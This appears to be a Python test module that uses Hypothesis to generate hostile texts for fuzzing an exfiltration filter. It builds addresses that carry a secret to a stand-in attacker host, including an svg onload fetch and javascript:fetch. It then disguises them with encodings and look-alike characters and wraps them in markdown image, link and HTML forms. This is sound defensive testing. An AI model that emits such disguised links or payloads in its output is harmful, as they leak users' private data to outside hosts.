"""Random texts of an attacker: an address with a secret, disguised, wrapped and damaged."""

from collections.abc import Callable

from hypothesis import strategies as st

from tests.unit.zantara.gate.exfiltration import HOST, PREFIX, SECRET
from zantara.gate.known_addresses import KnownAddresses

__all__ = ["KNOWN", "OUT", "OWN", "hostile_texts"]

OWN = "https://own.example/doc"
OUT = "https://out.example/a?b=1"
KNOWN = KnownAddresses.of(own=[OWN], told=[OUT, PREFIX])

_ADDRESSES = (
    f"{PREFIX}{SECRET}",
    f"http://{HOST}/{SECRET}.png",
    f"//{HOST}/{SECRET}",
    f"{HOST}/{SECRET}",
    f"www.{HOST}/{SECRET}",
    f"https://{SECRET}.{HOST}",
    f"{SECRET}.{HOST}",
    f"https:{HOST}/{SECRET}",
    f"https:/\\{HOST}/{SECRET}",
    f"HTTPS://EVIL.example/{SECRET}",
    f"ftp://{HOST}/{SECRET}",
    f"data:text/html,https://{HOST}/{SECRET}",
    f"https://own.example@{HOST}/{SECRET}",
    f"https://{HOST}:8080/{SECRET}",
    f"mailto:a@{HOST}?body={SECRET}",
    f"javascript:fetch('//{HOST}/{SECRET}')",
    f"{PREFIX}{SECRET}&r={OWN}",
    OUT,
    OWN,
    f"{OWN}?{SECRET}={HOST}",
    f"{OUT}{SECRET}.{HOST}",
)
_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: "".join(f"&#{ord(one)};" for one in text),
    lambda text: "".join(f"%{ord(one):02x}" for one in text),
    lambda text: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text),
    "\u200b".join,
    "\u00ad".join,
    lambda text: "".join(one if one.isalnum() else f"\\{one}" for one in text),
    lambda text: text.replace(".", "\u3002"),
    lambda text: text.replace("/", "\u2044"),
    lambda text: text.replace(":", "&colon;"),
    lambda text: text.replace("evil", "e**vi**l"),
    lambda text: text.replace("evil", "e<b></b>vil"),
)
_WRAPS = (
    *("{}", "x{}", "{}x", "`{}`", "```\n{}\n```", "**{}**", "({})", '"{}"', "| {} |\n|---|\n"),
    *("![a]({})", "[a]({})", "[a](<{}>)", '[a]({} "t")', "[a](\n{}\n)", "[a]( {} )"),
    *("\\[a]({})", "[a\\]b]({})", "[![a]({})]({})", "[[{}]]", "<{}>", "<{}|x>", "<!--{}-->"),
    *("[a][r]\n\n[r]: {}", "[r]\n\n[r]: {}\n", "![a][r]\n\n[r]:\n{}", "> [a]: {}\n\n[a]"),
    *("- [a]: {}\n\n[a]", "[a\nb]: {}\n\n[a b]", "[a]: {} 'x'\n\n[a]"),
    *('<img src="{}">', "<a href={}>x</a>", "<svg/onload=\"fetch('{}')\">", "&lt;img src={}&gt;"),
    *("<style>@import url({});</style>", "\x1b]8;;{}\x07x\x1b]8;;\x07"),
)
_BETWEEN = (
    *("It costs **Rp 2.300.000** [1]. ", "See [1]: ", "`x` ", "e-mail a@b.com ", "\n\n", "\n", " "),
    *("- ", "> ", "[", "]", "(", ")", "!", "<", ">", "[a]", "](", "]:", "![", "\\", "*", "_", "`"),
    *("&", "\t", "\u00a0", "a", "|"),
)
_DAMAGE = "[]()<>!:/\\\"' \n\t.*_`&;#%@-\u200b\u00a0\u2028\r|x"


@st.composite
def _addresses(draw: st.DrawFn) -> str:
    text = draw(st.sampled_from(_ADDRESSES))
    for disguise in draw(st.lists(st.sampled_from(_DISGUISES), max_size=2)):
        at = draw(st.none() | st.integers(0, 60))
        if at is None:
            text = disguise(text)
        else:
            at %= len(text)
            text = text[:at] + disguise(text[at]) + text[at + 1 :]
    return text


def _wrapped(wrap: str, address: str) -> str:
    return wrap.replace("{}", address)


@st.composite
def hostile_texts(draw: st.DrawFn) -> str:
    """Up to six pieces, and up to four signs changed in them."""
    pieces = st.sampled_from(_BETWEEN) | st.builds(_wrapped, st.sampled_from(_WRAPS), _addresses())
    text = "".join(draw(st.lists(pieces, min_size=1, max_size=6)))
    for _ in range(draw(st.integers(0, 4))):
        at, cut = draw(st.integers(0, len(text))), draw(st.integers(0, 1))
        text = text[:at] + draw(st.sampled_from(["", *_DAMAGE])) + text[at + cut :]
    return text
